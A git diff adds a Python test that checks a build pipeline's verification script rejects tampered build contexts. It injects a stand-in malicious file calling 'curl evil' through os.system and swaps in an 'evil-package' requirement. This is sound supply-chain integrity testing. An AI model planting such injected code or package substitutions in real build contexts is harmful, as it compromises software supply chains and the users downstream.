@@ -151,3 +151,24 @@ def test_the_buildspec_quotes_every_value_and_logs_in_to_ecr_only():
 
     local = json.loads(buildspec(_plan()))
     assert "pre_build" not in local["phases"]  # another registry: the engine's own login
+
+
+def test_a_build_runs_only_the_context_the_worker_wrote(tmp_path):
+    """The archive lies where jobs can write: the build's first step checks every file."""
+    import subprocess
+
+    plan = _plan()
+    with zipfile.ZipFile(io.BytesIO(plan.archive("zip"))) as archive:
+        archive.extractall(tmp_path)
+
+    def verify() -> subprocess.CompletedProcess:
+        script = plan.verify_script()
+        return subprocess.run(["bash", "-c", script], cwd=tmp_path, capture_output=True)
+
+    assert verify().returncode == 0
+    (tmp_path / "stepop" / "extra.py").write_text("import os; os.system('curl evil')\n")
+    assert verify().returncode != 0  # a file the worker did not write
+    (tmp_path / "stepop" / "extra.py").unlink()
+    (tmp_path / "stepop" / "stepop-requirements.txt").write_text("evil-package\n")
+    assert verify().returncode != 0  # a file the worker wrote, rewritten
+    assert "$" not in plan.verify_script()  # Cloud Build would substitute it
